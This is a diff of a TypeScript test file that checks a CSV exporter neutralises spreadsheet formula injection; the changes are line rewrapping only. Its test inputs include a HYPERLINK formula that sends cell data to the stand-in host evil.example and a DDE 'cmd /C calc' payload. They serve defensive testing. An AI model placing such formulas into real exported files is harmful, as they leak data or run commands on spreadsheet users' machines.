@@ -11,9 +11,15 @@ import { csvCell, csvLine, startsLikeFormula } from './export-csv';
 const FORMULA = /^[=+\-@\t\r]/;
 const referenceCell = (v: unknown) => {
   const text = v === null || v === undefined ? '' : Array.isArray(v) ? v.join('; ') : String(v);
-  return !(typeof v === 'number' && Number.isFinite(v)) && FORMULA.test(text) && !/^-\d+(\.\d+)?$/.test(text) ? `'${text}` : text;
+  return !(typeof v === 'number' && Number.isFinite(v)) && FORMULA.test(text) && !/^-\d+(\.\d+)?$/.test(text)
+    ? `'${text}`
+    : text;
 };
-const reference = (rows: unknown[][]) => stringify(rows.map((row) => row.map(referenceCell)), { quoted_match: /^'[=+\-@\t\r]/ });
+const reference = (rows: unknown[][]) =>
+  stringify(
+    rows.map((row) => row.map(referenceCell)),
+    { quoted_match: /^'[=+\-@\t\r]/ },
+  );
 
 /** The text of one cell as a spreadsheet program reads it back (quotes taken off). */
 const readBack = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
@@ -32,17 +38,23 @@ describe('CSV of the packages', () => {
   it('writes random text as csv-stringify does', () => {
     const alphabet = ['a', 'Z', ' ', ',', '"', '\n', '\r', ';', 'è', '\t', '0'];
     let seed = 7;
-    const random = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
+    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
     const rows = Array.from({ length: 200 }, () =>
-      Array.from({ length: 5 }, () => Array.from({ length: Math.floor(random() * 12) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('')),
+      Array.from({ length: 5 }, () =>
+        Array.from({ length: Math.floor(random() * 12) }, () => alphabet[Math.floor(random() * alphabet.length)]).join(
+          '',
+        ),
+      ),
     );
     expect(rows.map(csvLine).join('')).toBe(reference(rows));
   });
 
   it('neutralises a cell that a spreadsheet would run as a formula (OWASP): a quote before it, and quoted', () => {
-    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""click"")"');
+    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"click")')).toBe(
+      '"\'=HYPERLINK(""https://evil.example/?""&A1,""click"")"',
+    );
     expect(csvCell('+39 333 1234567')).toBe('"\'+39 333 1234567"');
-    expect(csvCell('-2+3+cmd|\' /C calc\'!A0')).toBe('"\'-2+3+cmd|\' /C calc\'!A0"');
+    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("\"'-2+3+cmd|' /C calc'!A0\"");
     expect(csvCell('@SUM(1+1)')).toBe('"\'@SUM(1+1)"');
     expect(csvCell('\t=1')).toBe('"\'\t=1"');
     expect(csvCell('\r=1')).toBe('"\'\r=1"');
@@ -65,18 +77,32 @@ describe('CSV of the packages', () => {
   it('never lets a cell read back begin as a formula, and keeps the text after the quote (fast-check)', () => {
     const formulaStart = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '', 'a', '"', ',', '\n', "'");
     fc.assert(
-      fc.property(fc.oneof(fc.tuple(formulaStart, fc.string()).map(([a, b]) => a + b), fc.string({ unit: 'binary' }), fc.array(fc.string(), { maxLength: 3 }), fc.double(), fc.integer(), fc.constantFrom(-Infinity, Infinity, NaN, -0)), (value) => {
-        const text = Array.isArray(value) ? value.join('; ') : String(value);
-        const cell = csvCell(value);
-        const back = readBack(cell);
-        if (!(typeof value === 'number' && Number.isFinite(value)) && FORMULA.test(text) && !/^-\d+(\.\d+)?$/.test(text)) {
-          expect(cell.startsWith('"\'')).toBe(true);
-          expect(back).toBe(`'${text}`);
-        } else {
-          expect(back).toBe(text);
-        }
-        expect(FORMULA.test(back) && !/^-[\d.]/.test(back)).toBe(false);
-      }),
+      fc.property(
+        fc.oneof(
+          fc.tuple(formulaStart, fc.string()).map(([a, b]) => a + b),
+          fc.string({ unit: 'binary' }),
+          fc.array(fc.string(), { maxLength: 3 }),
+          fc.double(),
+          fc.integer(),
+          fc.constantFrom(-Infinity, Infinity, NaN, -0),
+        ),
+        (value) => {
+          const text = Array.isArray(value) ? value.join('; ') : String(value);
+          const cell = csvCell(value);
+          const back = readBack(cell);
+          if (
+            !(typeof value === 'number' && Number.isFinite(value)) &&
+            FORMULA.test(text) &&
+            !/^-\d+(\.\d+)?$/.test(text)
+          ) {
+            expect(cell.startsWith('"\'')).toBe(true);
+            expect(back).toBe(`'${text}`);
+          } else {
+            expect(back).toBe(text);
+          }
+          expect(FORMULA.test(back) && !/^-[\d.]/.test(back)).toBe(false);
+        },
+      ),
       { numRuns: 500 },
     );
   });
